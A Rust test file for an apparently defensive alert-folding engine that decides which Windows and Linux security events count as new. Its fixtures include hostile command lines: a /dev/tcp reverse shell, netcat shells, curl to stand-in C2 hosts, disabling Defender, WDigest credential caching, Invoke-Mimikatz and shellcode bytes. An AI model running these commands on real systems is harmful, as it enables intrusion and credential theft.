//! Events of Windows: what a program did, and who logged on.

use serde_json::json;

use super::{assert_differ, assert_fold, decoded, event, field, folds, of, pair, security, sysmon};

#[test]
fn a_program_that_did_another_thing_is_another_thing() {
    let program = r"C:\\Windows\\System32\\reg.exe";
    for (event, data, name, other) in [
        (
            4657,
            json!({"processName": program, "objectName": r"\\REGISTRY\\MACHINE\\Run", "objectValueName": "x"}),
            "objectName",
            r"\\REGISTRY\\MACHINE\\Lsa",
        ),
        (
            4657,
            json!({"processName": program, "objectName": r"\\REGISTRY\\MACHINE\\Run", "newValue": "0"}),
            "newValue",
            "1",
        ),
        (
            4663,
            json!({"processName": program, "objectName": r"C:\\payroll.xlsx", "accessMask": "0x1"}),
            "objectName",
            r"C:\\Windows\\NTDS\\ntds.dit",
        ),
        (
            4663,
            json!({"processName": program, "objectName": r"C:\\payroll.xlsx", "accessMask": "0x1"}),
            "accessMask",
            "0x2",
        ),
        (
            4670,
            json!({"processName": program, "objectName": r"C:\\a", "oldSd": "a"}),
            "objectName",
            r"C:\\b",
        ),
        (
            4673,
            json!({"processName": program, "service": "-", "privilegeList": "SeTcbPrivilege"}),
            "privilegeList",
            "SeDebugPrivilege",
        ),
        (
            4719,
            json!({"subjectUserName": "bob", "subcategoryId": "%%12544", "auditPolicyChanges": "%%8448"}),
            "subcategoryId",
            "%%12545",
        ),
        (
            4662,
            json!({"subjectUserName": "bob", "properties": "%%7688 {19195a5b-6da0-11d0-afd3-00c04fd930c9}"}),
            "properties",
            "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",
        ),
    ] {
        let alert = security(event, data);
        let one = alert.pointer(&field(name)).unwrap().as_str().unwrap().to_owned();
        assert_differ(&alert, &field(name), &one, other);
    }
    for (event, data, name, other) in [
        (
            17,
            json!({"image": "System", "pipeName": r"\\srvsvc"}),
            "pipeName",
            r"\\PSEXESVC",
        ),
        (
            9,
            json!({"image": program, "device": r"\\Device\\Harddisk0\\DR0"}),
            "device",
            r"\\Device\\Raw",
        ),
        (
            25,
            json!({"image": program, "type": "Image is replaced"}),
            "type",
            "Image is locked",
        ),
    ] {
        let alert = sysmon(event, data);
        let one = alert.pointer(&field(name)).unwrap().as_str().unwrap().to_owned();
        assert_differ(&alert, &field(name), &one, other);
    }
    let script = event(
        4103,
        "Microsoft-Windows-PowerShell/Operational",
        json!({"contextInfo": "Sequence Number = 15", "payload": "CommandInvocation(Get-Date)"}),
    );
    assert_differ(
        &script,
        &field("payload"),
        "CommandInvocation(Get-Date)",
        "CommandInvocation(Invoke-Mimikatz)",
    );
    assert_fold(
        &script,
        &field("contextInfo"),
        "Sequence Number = 15",
        "Sequence Number = 17",
    );
}

#[test]
fn a_program_that_did_the_same_again_folds() {
    let alert = security(
        4673,
        json!({"processName": r"C:\\a.exe", "privilegeList": "SeTcbPrivilege", "subjectUserName": "bob", "subjectUserSid": "S-1-5-21-1-2-3-1105",
            "subjectLogonId": "0x1c3f", "processId": "0x2d0", "handleId": "0x1a4"}),
    );
    for (name, one, other) in [
        ("subjectLogonId", "0x1c3f", "0x99"),
        ("processId", "0x2d0", "0x4"),
        ("handleId", "0x1a4", "0x2b8"),
    ] {
        assert_fold(&alert, &field(name), one, other);
    }
    assert_fold(&alert, "/data/win/system/eventRecordID", "1", "2");
    // Who did it is news, and does not begin another window.
    let mut other = alert.clone();
    other["data"]["win"]["eventdata"]["subjectUserName"] = json!("eve");
    other["data"]["win"]["eventdata"]["subjectUserSid"] = json!("S-1-5-21-1-2-3-1106");
    assert_eq!(of(&alert).key, of(&other).key);
    assert!(!folds(&alert, &other));
    // Nothing says that fields come in the same order again.
    let one = security(
        4673,
        json!({"processName": "a.exe", "privilegeList": "SeTcb", "objectServer": "Security"}),
    );
    let turned = security(
        4673,
        json!({"objectServer": "Security", "privilegeList": "SeTcb", "processName": "a.exe"}),
    );
    assert!(folds(&one, &turned));
    let gone = sysmon(
        5,
        json!({"image": r"C:\\a.exe", "processGuid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}", "utcTime": "2026-11-29 04:00:01.001", "processId": "12"}),
    );
    assert_fold(
        &gone,
        &field("utcTime"),
        "2026-11-29 04:00:01.001",
        "2026-11-30 05:01:02.003",
    );
}

#[test]
fn what_was_written_and_what_was_asked_for_count() {
    let value = sysmon(
        13,
        json!({"image": r"C:\\Windows\\regedit.exe", "targetObject": r"HKLM\\System\\CurrentControlSet\\Services\\Fax\\ImagePath", "details": "x"}),
    );
    let details = field("details");
    assert_differ(
        &value,
        &details,
        r"C:\\Windows\\fxssvc.exe",
        r"powershell.exe -noexit -c \\x",
    );
    assert_differ(&value, &details, "DWORD (0x00000000)", "DWORD (0x00000001)");
    assert_fold(&value, &details, "DWORD (0x6567a1b2)", "DWORD (0x6567a1b3)");
    assert_fold(&value, &details, "Binary Data", "Binary Data");
    let task = security(
        4698,
        json!({"subjectUserName": "bob", "taskName": r"\\Upd", "taskContent": "x"}),
    );
    assert_differ(
        &task,
        &field("taskContent"),
        "<Exec>a.exe</Exec>",
        "<Exec>powershell -enc</Exec>",
    );
    assert_fold(
        &task,
        &field("taskContent"),
        "<Date>2026-11-29T04:00:01</Date><Exec>a.exe</Exec>",
        "<Date>2026-11-30T05:01:02</Date><Exec>a.exe</Exec>",
    );
    let access = sysmon(
        10,
        json!({"sourceImage": r"C:\\a.exe", "targetImage": r"C:\\Windows\\System32\\lsass.exe", "grantedAccess": "0x1000", "callTrace": "x", "sourceProcessId": "1"}),
    );
    assert_differ(&access, &field("grantedAccess"), "0x1000", "0x1fffff");
    assert_fold(
        &access,
        &field("callTrace"),
        "ntdll.dll+9d104|a.dll+1",
        "ntdll.dll+9c534|b.dll+2",
    );
    assert_eq!(
        of(&pair(&access, &field("grantedAccess"), [json!("0x1000"), json!("0x1fffff")])[1]).key,
        of(&access).key,
        "many kinds of access are news in one window"
    );
}

#[test]
fn a_new_source_of_what_a_program_does_is_news() {
    let inbound = sysmon(
        3,
        json!({"image": r"C:\\Windows\\System32\\svchost.exe", "initiated": "false", "sourceIp": "203.0.113.1", "sourcePort": "50000", "destinationIp": "10.0.0.1", "destinationPort": "3389"}),
    );
    assert_differ(&inbound, &field("sourceIp"), "203.0.113.1", "198.51.100.2");
    assert_fold(&inbound, &field("sourcePort"), "50000", "50001");
    let outbound = pair(&inbound, &field("initiated"), [json!("true"), json!("true")])[0].clone();
    assert_fold(&outbound, &field("sourceIp"), "10.0.0.1", "fe80::1");
    let honeypot = decoded("json", json!({"command": "uname -a", "srcip": "203.0.113.1"}));
    assert_differ(&honeypot, "/data/srcip", "203.0.113.1", "198.51.100.2");
    let own = json!({"rule": {"id": "1"}, "agent": {"id": "1", "name": "ws1", "ip": "10.0.0.7"}, "data": {"command": "x", "srcip": "127.0.0.1"}});
    assert_fold(&own, "/data/srcip", "127.0.0.1", "10.0.0.7");
}

#[test]
fn whoever_has_acted_is_still_a_new_target() {
    let logon = security(
        4625,
        json!({"subjectUserName": "pgustavo", "targetUserName": "lrodriguez", "ipAddress": "10.9.9.9"}),
    );
    assert_differ(&logon, &field("targetUserName"), "lrodriguez", "pgustavo");
    assert_eq!(
        of(&logon).distinct[..2],
        [
            ("user", "pgustavo".to_owned()),
            ("target_user", "lrodriguez".to_owned())
        ]
    );
}

#[test]
fn another_service_target_or_manner_is_news() {
    let ticket = security(
        4769,
        json!({"targetUserName": "bob", "serviceName": "svc_sql", "ipAddress": "10.0.0.5", "status": "0x0", "ticketEncryptionType": "0x12"}),
    );
    assert_differ(&ticket, &field("serviceName"), "svc_sql", "svc_backup");
    let explicit = security(
        4648,
        json!({"targetUserName": "bob", "targetServerName": "fs1", "ipAddress": "10.9.9.9"}),
    );
    assert_differ(&explicit, &field("targetServerName"), "fs1", "dc1");
    let installed = event(
        7045,
        "System",
        json!({"serviceName": "Updater", "imagePath": r"C:\\x.exe", "startType": "auto"}),
    );
    assert_differ(&installed, &field("serviceName"), "Updater", "PSEXESVC");
    let elevated = sysmon(
        1,
        json!({"image": r"C:\\a.exe", "commandLine": "a.exe", "integrityLevel": "Medium"}),
    );
    assert_differ(&elevated, &field("integrityLevel"), "Medium", "High");
    let refused = security(
        4625,
        json!({"targetUserName": "bob", "ipAddress": "10.9.9.9", "status": "0xc000006d", "subStatus": "0xc000006a", "workstationName": "WS1"}),
    );
    assert_differ(&refused, &field("subStatus"), "0xc000006a", "0xc0000071");
    assert_differ(&refused, &field("status"), "0xc000006d", "0xc0000234");
    assert_differ(&refused, &field("workstationName"), "WS1", "KALI");
    assert_fold(&refused, &field("workstationName"), "WS1", "ws1");
    assert_differ(&ticket, &field("ticketEncryptionType"), "0x12", "0x17");
    let manner = security(
        4624,
        json!({"targetUserName": "bob", "ipAddress": "10.9.9.9", "authenticationPackageName": "Kerberos", "targetOutboundUserName": "-"}),
    );
    assert_differ(&manner, &field("authenticationPackageName"), "Kerberos", "NTLM");
    assert_differ(&manner, &field("targetOutboundUserName"), "-", "admin");
    let logon = security(
        4624,
        json!({"targetUserName": "admin", "logonType": "3", "ipAddress": "10.9.9.9", "ipPort": "50000"}),
    );
    assert_differ(&logon, &field("logonType"), "3", "10");
    assert_fold(&logon, &field("ipPort"), "50000", "50001");
}

#[test]
fn the_numbers_that_a_command_was_given_are_news() {
    let command = sysmon(1, json!({"image": r"C:\\x.exe", "commandLine": "x"}));
    let sudo = decoded("sudo", json!({"srcuser": "bob", "dstuser": "root", "command": "x"}));
    for (one, other) in [
        ("chmod 755 /bin/bash", "chmod 4755 /bin/bash"),
        (
            r"reg add HKLM\\x /v UseLogonCredential /t REG_DWORD /d 0",
            r"reg add HKLM\\x /v UseLogonCredential /t REG_DWORD /d 1",
        ),
        (
            "Set-MpPreference -DisableRealtimeMonitoring 0",
            "Set-MpPreference -DisableRealtimeMonitoring 1",
        ),
        ("nc -l 80 -e sh", "nc -l 4444 -e sh"),
        ("curl http://a.example:8080/x", "curl http://a.example:9090/x"),
        ("x -a 1 -b 2 -c 3 -d 4 -e 5", "x -a 1 -b 2 -c 3 -d 4 -e 6"),
        (r"PsExec \\\\srv-01 cmd", r"PsExec \\\\srv-02 cmd"),
        ("net user svc-01 /add", "net user svc-02 /add"),
        ("curl http://c2-01.example/a", "curl http://c2-02.example/a"),
        (
            "bash -i >& /dev/tcp/203.0.113.9/4444",
            "bash -i >& /dev/tcp/203.0.113.9/5555",
        ),
        ("ssh -R 4444:localhost:22 a", "ssh -R 5555:localhost:22 a"),
    ] {
        for (alert, pointer) in [(&command, field("commandLine")), (&sudo, "/data/command".to_owned())] {
            assert_differ(alert, &pointer, one, other);
            let [one, other] = pair(alert, &pointer, [json!(one), json!(other)]);
            assert_eq!(of(&one).key, of(&other).key, "many are bounded in one window");
        }
    }
    for (one, other) in [
        ("taskkill /PID 4711", "taskkill /PID 12"),
        ("x --parent-pid=4711", "x --parent-pid=4712"),
        ("a.exe --job 17", "a.exe --job 18"),
        ("backup --at 1796000000", "backup --at 1796000900"),
        ("at 09:02:17 x", "at 10:12:18 x"),
    ] {
        assert_fold(&command, &field("commandLine"), one, other);
    }
}

#[test]
fn what_an_attribute_of_a_directory_became_is_news() {
    let changed = |attribute: &str| {
        security(
            5136,
            json!({"subjectUserName": "bob", "objectDN": "CN=x", "attributeLDAPDisplayName": attribute, "attributeValue": "x"}),
        )
    };
    let value = field("attributeValue");
    assert_differ(&changed("primaryGroupID"), &value, "513", "512");
    assert_differ(&changed("userAccountControl"), &value, "512", "524288");
    let policy =
        |guid: &str, state: u8| format!("[LDAP://cn={{{guid}}},cn=policies,cn=system,DC=corp,DC=example;{state}]");
    let (one, other) = (
        "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
        "31B2F340-016D-11D2-945F-00C04FB984F9",
    );
    let key = |digit: &str| format!("B:828:0002{}:CN=x", digit.repeat(820));
    for (attribute, one, other) in [
        ("gPLink", policy(one, 0), policy(other, 0)),
        ("gPLink", policy(one, 0), policy(one, 2)),
        ("msDS-KeyCredentialLink", key("1"), key("2")),
        ("groupType", "-2147483646".to_owned(), "-2147483644".to_owned()),
    ] {
        assert_differ(&changed(attribute), &value, &one, &other);
    }
    assert_fold(
        &changed("lastLogon"),
        &value,
        "133812345678901234",
        "133812345678909999",
    );
    assert_fold(
        &changed("whenChanged"),
        &value,
        "20261129040001.0Z",
        "20261129051102.0Z",
    );
    assert_fold(&changed("x"), &value, "20261129040001Z", "20261129051102Z");
    assert_fold(&changed("x"), &value, "-133812345678901234", "-133812345678909999");
    let [one, other] = pair(&changed("versionNumber"), &value, [json!("65537"), json!("65538")]);
    assert_eq!(of(&one).key, of(&other).key, "one that counts is bounded in one window");
    let account = security(4738, json!({"targetUserName": "x", "newUacValue": "x"}));
    assert_differ(&account, &field("newUacValue"), "0x211", "0x10211");
}

#[test]
fn with_what_rights_a_program_runs_which_bytes_a_script_holds_and_which_product_goes_is_news() {
    let started = security(
        4688,
        json!({"newProcessName": r"C:\\Windows\\System32\\msiexec.exe", "commandLine": "x", "mandatoryLabel": "x", "tokenElevationType": "x"}),
    );
    for (name, one, other) in [
        ("mandatoryLabel", "S-1-16-8192", "S-1-16-12288"),
        ("tokenElevationType", "%%1938", "%%1937"),
        (
            "commandLine",
            "msiexec /x {5770385F-C22A-43E0-BF4C-06F5698FFBD9} /qn",
            "msiexec /x {11111111-C22A-43E0-BF4C-06F5698FFBD9} /qn",
        ),
    ] {
        assert_differ(&started, &field(name), one, other);
    }
    for (one, other) in [
        (
            "a.exe /x {5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
            "a.exe /x {11111111-C22A-43E0-BF4C-06F5698FFBD9}",
        ),
        ("AUDIODG.EXE 0x4a8", "AUDIODG.EXE 0x2fc"),
        ("a.exe 0x9c", "a.exe 0xa4"),
    ] {
        assert_fold(&started, &field("commandLine"), one, other);
    }
    let installed = security(
        4697,
        json!({"serviceName": "x", "serviceFileName": r"C:\\a.exe", "serviceAccount": "x", "serviceStartType": "x"}),
    );
    assert_differ(
        &installed,
        &field("serviceAccount"),
        r"NT AUTHORITY\\LocalService",
        "LocalSystem",
    );
    assert_differ(&installed, &field("serviceStartType"), "3", "2");
    let script = event(4104, "x", json!({"scriptBlockText": "x"}));
    assert_differ(&script, &field("scriptBlockText"), "0XFC,0X48", "0XFC,0XE8");
    for padding in ["", &"# pad ".repeat(300)] {
        let bytes = |bytes: &str| format!("{padding}$b=0xfc,0x48,{bytes},0x00");
        assert_differ(
            &script,
            &field("scriptBlockText"),
            &bytes("0x83,0xe4,0xf0"),
            &bytes("0xe8,0xc0,0xf1"),
        );
        assert_fold(
            &script,
            &field("scriptBlockText"),
            &format!("{padding}x 0x7ffe1000,0x00"),
            &format!("{padding}x 0x7ffe2000,0x00"),
        );
    }
}
